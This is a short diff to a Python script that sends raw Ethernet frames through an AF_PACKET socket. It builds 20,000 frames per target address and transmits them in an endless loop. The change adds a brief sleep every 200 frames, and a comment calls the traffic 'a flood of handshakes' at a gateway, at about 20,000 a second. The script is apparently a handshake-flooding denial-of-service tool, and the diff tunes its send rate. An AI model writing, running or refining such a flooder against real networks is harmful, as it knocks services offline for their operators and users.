@@ -5,6 +5,7 @@ import random
 import socket
 import struct
 import sys
+import time
 
 interface, mac, port = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), int(sys.argv[3])
 line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
@@ -38,5 +39,8 @@ def frame(address):
 frames = [frame(address) for _ in range(20000) for address in sys.argv[4:]]
 print("ready", flush=True)
 while True:
-    for one in frames:
+    # 20,000 a second: a flood of handshakes, not of more than the gateway can receive.
+    for number, one in enumerate(frames):
         line.send(one)
+        if number % 200 == 199:
+            time.sleep(0.01)
